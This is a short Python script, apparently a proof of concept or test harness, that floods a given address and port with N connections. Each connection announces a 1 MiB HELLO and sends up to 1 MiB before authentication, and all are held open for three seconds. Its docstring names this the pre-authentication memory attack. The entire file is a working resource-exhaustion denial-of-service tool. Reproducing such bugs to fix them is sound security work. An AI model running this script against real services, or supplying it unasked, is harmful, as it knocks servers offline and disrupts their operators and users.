#!/usr/bin/env python3
"""flood.py ADDR PORT N: N connections that each announce a 1 MiB HELLO and
send up to 1 MiB of it, held for 3 s (the pre-authentication memory attack)."""
import socket, struct, sys, time
addr, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
socks = []
hdr = struct.pack("<IHHI", 1 << 20, 1, 0, 0)
chunk = b"\x55" * 65536
for i in range(n):
    try:
        s = socket.create_connection((addr, port), timeout=2)
        s.setblocking(False)
        s.send(hdr)
        for _ in range(16):
            try: s.send(chunk)
            except BlockingIOError: break
        socks.append(s)
    except OSError:
        pass
print(len(socks), "connections held", flush=True)
time.sleep(3)
